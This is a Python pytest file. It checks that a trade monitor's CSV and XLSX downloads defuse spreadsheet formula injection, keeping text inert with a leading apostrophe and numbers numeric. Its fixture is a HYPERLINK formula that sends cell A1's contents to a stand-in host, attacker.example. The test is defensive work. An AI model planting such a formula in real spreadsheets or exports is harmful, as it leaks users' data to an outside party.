"""The monitor's downloads for spreadsheets write text inert (hamkor.cells) and numbers as numbers."""

import io

import pandas as pd
import pytest
from openpyxl import load_workbook

from trade.downloads import render_table

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


@pytest.mark.parametrize('format', ['csv', 'xlsx'])
def test_trade_tables_write_text_inert_and_numbers_as_numbers(format):
    table = pd.DataFrame({'label': [FORMULA, 'China'], 'gap_usd': [-1250.5, 3.0]})

    data = render_table(table, format)

    if format == 'csv':
        read = pd.read_csv(io.BytesIO(data), encoding='utf-8-sig')
        assert read.to_dict('list') == {'label': ["'" + FORMULA, 'China'], 'gap_usd': [-1250.5, 3.0]}
    else:
        sheet = load_workbook(io.BytesIO(data))['table']
        assert [(cell.data_type, cell.value) for cell in sheet['A'][1:]] == [('s', "'" + FORMULA), ('s', 'China')]
        assert [cell.value for cell in sheet['B'][1:]] == [-1250.5, 3]
